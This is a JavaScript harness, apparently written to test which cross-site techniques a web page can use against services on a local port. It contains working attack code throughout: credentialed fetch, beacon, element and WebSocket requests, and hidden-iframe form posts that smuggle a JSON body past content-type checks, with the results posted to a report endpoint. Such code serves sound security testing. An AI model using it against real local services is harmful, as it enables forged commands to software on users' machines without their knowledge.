// What a page of another site can try against a port of this machine. Every try has a name and says what came of it; whether
// it had an effect, only the other side knows.
"use strict";
const wait = ms => new Promise(done => setTimeout(done, ms));
const PATIENCE = 20000;
const within = promise => Promise.race([promise, wait(PATIENCE).then(() => ({ why: "nothing came of it" }))]);

// A request: readable or not, it may have arrived.
async function request(url, options) {
  try {
    const response = await fetch(url, options);
    return { type: response.type, status: response.status, text: (await response.text()).slice(0, 200) };
  } catch (error) {
    return { why: String(error) };
  }
}

function socket(url, words) {
  return new Promise(done => {
    let ws;
    try { ws = new WebSocket(url); } catch (error) { return done({ why: String(error) }); }
    ws.onopen = () => { ws.send(words); wait(1000).then(() => done({ opened: true })); };
    ws.onmessage = event => done({ opened: true, text: String(event.data).slice(0, 200) });
    ws.onerror = () => done({ why: "refused" });
  });
}

// A form, sent into a frame that nobody sees.
function form(url, enctype, words) {
  const frame = document.createElement("iframe");
  frame.name = "f" + Math.random();
  document.body.append(frame);
  const form = document.createElement("form");
  Object.assign(form, { action: url, method: "POST", enctype, target: frame.name });
  const field = document.createElement("input");
  // What stands left and right of the equals sign is JSON together.
  const cut = words.indexOf('"params"');
  Object.assign(field, { name: words.slice(0, cut) + '"x":"', value: '",' + words.slice(cut) });
  form.append(field);
  document.body.append(form);
  return new Promise(done => {
    frame.onload = () => done({ sent: true });
    form.submit();
  });
}

function element(tag, attributes) {
  return new Promise(done => {
    const made = Object.assign(document.createElement(tag), attributes);
    made.onload = () => done({ loaded: true });
    made.onerror = () => done({ why: "an error" });
    document.body.append(made);
  });
}

// Everything, against one target: `from` says where this page comes from.
async function attack(from, target) {
  const { name, base, words, hello } = target;
  const results = {};
  const tries = {};
  const at = attempt => `${base}${target.path}?a=${name}/${from}/${attempt}`;
  const body = attempt => words.replace("ATTEMPT", `${name}-${from}-${attempt}`);
  const kinds = { none: undefined, text: "text/plain", form: "application/x-www-form-urlencoded", multipart: "multipart/form-data; boundary=x", json: "application/json" };
  for (const [kind, type] of Object.entries(kinds)) {
    for (const mode of ["cors", "no-cors"]) {
      const attempt = `fetch-${mode}-${kind}`;
      // Without a type of its own a body of bytes has none.
      const bytes = type ? body(attempt) : new Blob([body(attempt)]);
      tries[attempt] = () => request(at(attempt), { method: "POST", mode, credentials: "include", headers: type ? { "Content-Type": type } : {}, body: bytes });
    }
  }
  tries["fetch-preflight"] = () => request(at("fetch-preflight"), { method: "POST", headers: { "Content-Type": "application/json", "X-Other": "1", Authorization: "Bearer x" }, body: body("fetch-preflight") });
  tries["fetch-get"] = () => request(at("fetch-get"), { credentials: "include" });
  tries["fetch-get-no-cors"] = () => request(at("fetch-get-no-cors"), { mode: "no-cors", credentials: "include" });
  tries["beacon"] = async () => ({ sent: navigator.sendBeacon(at("beacon"), new Blob([body("beacon")], { type: "text/plain" })) });
  for (const [kind, enctype] of Object.entries({ text: "text/plain", urlencoded: "application/x-www-form-urlencoded", multipart: "multipart/form-data" })) {
    tries[`form-${kind}`] = () => form(at(`form-${kind}`), enctype, body(`form-${kind}`));
  }
  tries["script"] = () => element("script", { src: at("script") });
  tries["image"] = () => element("img", { src: at("image") });
  tries["frame"] = () => element("iframe", { src: at("frame") });
  tries["websocket"] = () => socket(at("websocket").replace("http", "ws"), hello);
  for (const [attempt, act] of Object.entries(tries)) results[attempt] = await within(act());
  return results;
}

async function report(to, from, targets) {
  for (const target of targets) {
    const results = await attack(from, target);
    await fetch(`${to}/report`, { method: "POST", mode: "no-cors", body: JSON.stringify({ from, target: target.name, results }) });
  }
}
